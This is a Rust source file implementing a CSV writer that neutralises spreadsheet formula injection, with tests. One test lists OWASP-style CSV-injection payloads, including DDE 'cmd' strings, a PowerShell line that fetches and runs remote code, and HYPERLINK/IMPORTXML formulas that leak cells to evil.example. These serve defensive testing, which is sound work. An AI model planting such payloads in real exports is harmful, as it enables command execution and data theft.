//! CSV out: tables that a spreadsheet can open without being told to calculate anything.
//!
//! RFC 4180: a comma between cells, CR LF behind rows, quotes where they are needed and doubled inside.
//!
//! A cell that a spreadsheet would take for a formula gets an apostrophe in front (OWASP, "CSV Injection"): one that
//! begins with `=`, `+`, `-`, `@`, their full-width forms, a tab, CR or LF. Plain numbers such as `-12.50` are left
//! alone. A spreadsheet that splits at semicolons or tabs, as in half of Europe, begins a new cell in the midst of ours
//! and minds no quotes there; so what follows such a character, or a line's end, is treated like a cell's beginning.

/// Writes a table as CSV, row by row.
#[derive(Clone, Debug, Default)]
pub struct CsvWriter {
    text: String,
}

impl CsvWriter {
    /// A table that begins with this heading.
    pub fn new<S: AsRef<str>>(header: &[S]) -> Self {
        let mut writer = Self::default();
        writer.row(header);
        writer
    }

    /// Adds a row.
    pub fn row<S: AsRef<str>>(&mut self, cells: &[S]) {
        for (index, cell) in cells.iter().enumerate() {
            if index > 0 {
                self.text.push(',');
            }
            self.cell(cell.as_ref(), cells.len() == 1);
        }
        self.text.push_str("\r\n");
    }

    /// Takes what has been written so far, so that a long table can be written in chunks.
    pub fn take_chunk(&mut self) -> String {
        std::mem::take(&mut self.text)
    }

    /// The text.
    pub fn finish(self) -> String {
        self.text
    }

    fn cell(&mut self, cell: &str, is_alone: bool) {
        let safe = harmless(cell);
        let needs_quotes =
            safe.contains(['"', ',', ';', '\t', '\r', '\n']) || safe.starts_with(' ') || safe.ends_with(' ');
        // A row of one empty cell would be an empty line, which readers skip.
        if needs_quotes || (is_alone && safe.is_empty()) {
            self.text.push('"');
            self.text.push_str(&safe.replace('"', "\"\""));
            self.text.push('"');
        } else {
            self.text.push_str(&safe);
        }
    }
}

/// Writes a whole table as CSV.
pub fn to_csv<S: AsRef<str>, R: AsRef<[S]>>(header: &[S], rows: impl IntoIterator<Item = R>) -> String {
    let mut writer = CsvWriter::new(header);
    for row in rows {
        writer.row(row.as_ref());
    }
    writer.finish()
}

/// The text with an apostrophe before everything that a spreadsheet would calculate.
fn harmless(cell: &str) -> String {
    if is_plain_number(cell) {
        return cell.to_owned();
    }
    let mut out = String::with_capacity(cell.len() + 1);
    let mut is_start = true;
    for character in cell.chars() {
        if is_start && is_trigger(character) {
            out.push('\'');
        }
        out.push(character);
        is_start = matches!(character, ';' | '\t' | '\r' | '\n') || (is_start && matches!(character, '"' | ' '));
    }
    out
}

fn is_trigger(character: char) -> bool {
    matches!(character, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠')
}

/// A sign, digits, and perhaps a point and more digits.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    [whole, fraction].iter().all(|part| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_are_quoted_where_they_must_be() {
        let text = to_csv(&["a", "b"], [["x,y", "say \"hi\""], ["two\nlines", ""], [" x", "plain"]]);
        assert_eq!(text, "a,b\r\n\"x,y\",\"say \"\"hi\"\"\"\r\n\"two\nlines\",\r\n\" x\",plain\r\n");
        assert_eq!(to_csv(&["a"], [[""]]), "a\r\n\"\"\r\n");
    }

    #[test]
    fn plain_numbers_are_left_alone() {
        for number in ["-12.50", "+3", "0", "-1"] {
            assert_eq!(harmless(number), number);
        }
        for no_number in ["-1+1", "+1-1", "-", "-.5", "--1", "-1e5", "-1,5", "+4712345678 x"] {
            assert_eq!(harmless(no_number), format!("'{no_number}"));
        }
    }

    /// The payloads of OWASP's "CSV Injection" page and of the lists that testers use, and where each is disarmed.
    #[test]
    fn no_payload_of_owasp_reaches_a_spreadsheet_as_a_formula() {
        for payload in [
            "=1+1",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "+1+1",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!'A1'",
            "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
            "=HYPERLINK(\"https://evil.example?leak=\"&A1&A2, \"click\")",
            "=IMPORTXML(CONCAT(\"https://evil.example/?v=\", A1), \"//a\")",
            "+cmd|'/C calc'!A0",
            "-cmd|'/C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＠SUM(1)",
            " =1+1",
            "\"=1+1",
        ] {
            let written = harmless(payload);
            let first = written.trim_start_matches([' ', '"']);
            assert!(first.starts_with('\''), "{payload:?} was written as {written:?}");
        }
        for (payload, written) in [
            ("a;=1+1", "a;'=1+1"),
            ("a;\"=1+1", "a;\"'=1+1"),
            ("a\t@x", "a\t'@x"),
            ("a\n-x", "a\n'-x"),
            ("a-b=c;d", "a-b=c;d"),
        ] {
            assert_eq!(harmless(payload), written);
        }
    }
}
